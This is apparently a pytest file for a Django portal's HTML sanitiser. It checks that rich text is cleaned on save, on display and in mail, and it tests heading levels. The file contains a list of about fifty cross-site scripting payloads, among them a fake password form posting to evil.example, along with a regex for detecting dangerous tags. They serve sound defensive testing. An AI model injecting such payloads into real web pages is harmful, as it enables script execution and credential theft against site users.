"""Rich text: nothing that runs, loads or looks different ever gets through, neither stored nor shown."""

import re

import pytest
from django.template import Context, Template
from hypothesis import given
from hypothesis import strategies as st

from apps.core.richtext import clean, for_mail, level_headings, plain
from apps.news.models import Article
from tests.factories.news import make_article

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://ok.example' onclick='alert(1)'>x</a>",
    "<a href='https://ok.example' style='position:fixed;inset:0'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='evil.swf'></object>",
    "<embed src='evil.swf'>",
    "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<p><input autofocus onfocus=alert(1)></p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p id='inhalt' class='alert' data-x='1'>x</p>",
    "<td background='javascript:alert(1)'>x</td>",
    "<xss:script xmlns:xss='x'>alert(1)</xss:script>",
    "<b <script>alert(1)</script>>x</b>",
]
TAG = re.compile(r"<[^>]*>")
DANGEROUS = re.compile(
    r"<\s*/?\s*(script|style|svg|math|img(?! src=\"/mediathek/)|iframe|object|embed|form|input|base"
    r"|meta|link|video|template|title)"
    r"|\son\w+\s*=|\sstyle\s*=|\sid\s*=|\sclass\s*=|href=\"\s*(?!https?:|mailto:|tel:)\w*:",
    re.I,
)


def is_harmless(html: str) -> bool:
    """Whether no tag of `html` does anything; text that merely reads like one is escaped and no tag."""
    return not any(DANGEROUS.search(tag) for tag in TAG.findall(html))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_taken_out(attack):
    assert is_harmless(clean(attack)), clean(attack)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_taken_out_when_shown_too(attack):
    """Even if they stand in the table, because somebody wrote them there directly."""
    shown = Template("{% load portal %}{{ value|rich }}").render(Context({"value": attack}))
    assert is_harmless(shown), shown


def test_the_examples_would_fail_uncleaned():
    """So that the check above is one."""
    assert sum(not is_harmless(attack) for attack in ATTACKS) > 35


@given(st.text(alphabet="<>/\"'=:&;# \tabcjsvrtonlipe!-", max_size=80))
def test_cleaning_is_final(text):
    once = clean(text)
    assert is_harmless(once)
    assert clean(once) == once or "<" not in once


@pytest.mark.parametrize(
    "kept",
    [
        "<p>Text mit <strong>fett</strong> und <em>kursiv</em></p>",
        "<h2>Titel</h2>",
        "<ul><li>eins</li></ul>",
        "<blockquote><p>Zitat</p></blockquote>",
        '<p><a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer">Link</a></p>',
        '<p><a href="mailto:a@example.org" rel="noopener noreferrer">Mail</a></p>',
        '<p lang="en">English</p>',
        '<p>Ein <span lang="en">call for papers</span></p>',
        '<img src="/mediathek/01234567-89ab-cdef-0123-456789abcdef/" alt="Ein Rad" width="40" height="30">',
        "<table><tbody><tr><th>A</th><td>1</td></tr></tbody></table>",
    ],
)
def test_what_the_editor_makes_stays(kept):
    assert clean(kept) == kept


@pytest.mark.parametrize(
    "picture",
    [
        '<img src="https://evil.example/x.png" alt="x">',
        '<img src="//evil.example/mediathek/01234567-89ab-cdef-0123-456789abcdef/" alt="x">',
        '<img src="/konto/logout/" alt="x">',
        '<img src="/mediathek/01234567-89ab-cdef-0123-456789abcdef/../../konto/" alt="x">',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="a > b">',
        '<img alt="ohne Adresse">',
    ],
)
def test_pictures_come_from_the_library_only(picture):
    assert clean(f"<p>{picture}</p>") == "<p></p>"


def test_languages_are_languages():
    assert clean('<p><span lang="en" onclick="x">a</span><span lang="<b">b</span></p>') == (
        '<p><span lang="en">a</span><span>b</span></p>'
    )


def test_mails_have_no_pictures_and_whole_addresses():
    picture = '<img src="/mediathek/01234567-89ab-cdef-0123-456789abcdef/" alt="x">'
    assert for_mail(f'<p>{picture}<a href="/partner/">P</a></p>', "https://n.example") == (
        '<p><a href="https://n.example/partner/" rel="noopener noreferrer">P</a></p>'
    )


def test_links_in_the_site_stay():
    assert 'href="/publikationen/"' in clean('<a href="/publikationen/">Publikationen</a>')


def test_plain_text_becomes_paragraphs():
    assert clean("Eins\nzwei\n\nDrei: 1 < 2 & 3") == "<p>Eins<br>zwei</p>\n\n<p>Drei: 1 &lt; 2 &amp; 3</p>"


def test_plain_gives_the_text_alone():
    assert plain("<h2>Titel</h2><p>Ein <strong>Wort</strong></p>") == "Titel Ein Wort"


@pytest.mark.django_db
def test_fields_are_cleaned_when_saved():
    article = make_article(body_de="<p>ok</p><script>alert(1)</script>")
    assert article.body_de == "<p>ok</p>"
    assert Article.objects.get().body_de == "<p>ok</p>"


@pytest.mark.parametrize(
    ("written", "first", "shown"),
    [
        ("<h3>A</h3>", 2, "<h2>A</h2>"),
        ("<h2>A</h2><h4>B</h4><h2>C</h2>", 2, "<h2>A</h2><h3>B</h3><h2>C</h2>"),
        ("<h4>A</h4><h2>B</h2><h3>C</h3>", 3, "<h3>A</h3><h3>B</h3><h4>C</h4>"),
        ("<h2>A <em>b</em></h2>", 3, "<h3>A <em>b</em></h3>"),
        ("<p>h2</p>", 2, "<p>h2</p>"),
    ],
)
def test_headings_make_an_outline(written, first, shown):
    assert level_headings(written, first) == shown


def test_plain_has_no_entities():
    assert plain(clean("<p>Forschung & Lehre &lt;2&gt;</p>")) == "Forschung & Lehre <2>"
